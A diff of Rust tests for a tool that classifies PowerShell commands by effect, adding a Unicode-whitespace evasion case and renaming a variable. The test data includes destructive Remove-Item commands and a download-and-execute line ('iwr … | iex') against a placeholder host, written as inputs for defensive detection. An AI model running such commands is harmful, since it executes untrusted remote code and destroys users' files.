@@ -23,6 +23,7 @@ fn powershell_text() {
         ("$p = 'notes.md'\nRemove-Item $p", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
         ("Get-ChildItem notes.md | Remove-Item", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
         ("Remove-Item $unknown -Recurse", "delete file: [recursive] (unknown), loss unknown".to_owned()),
+        ("Remove-Item\u{2008}notes.md\u{3000}", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
         ("Remove-Item notes.md -WhatIf", "delete file:/home/dev/proj/notes.md [dry_run] project".to_owned()),
         ("Set-Content -Path notes.md -Value x", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
         ("'x' | Out-File notes.md", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
@@ -36,8 +37,8 @@ fn powershell_text() {
         ("if ($x) { Remove-Item notes.md }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
     ];
     for (command, expected) in cases {
-        let deeds = powershell(&world, command);
-        assert!(deeds.contains(&expected), "{command}: {deeds:?}");
+        let actions = powershell(&world, command);
+        assert!(actions.contains(&expected), "{command}: {actions:?}");
     }
     let fetched = powershell(&world, "iwr https://x.example/a.ps1 | iex");
     assert!(fetched[1].contains("downloaded"), "{fetched:?}");
@@ -70,6 +71,6 @@ fn words_of_windows_in_a_posix_shell() {
         ),
     ];
     for (command, expected) in cases {
-        assert_eq!(world.deeds(command), [expected], "{command}");
+        assert_eq!(world.actions(command), [expected], "{command}");
     }
 }
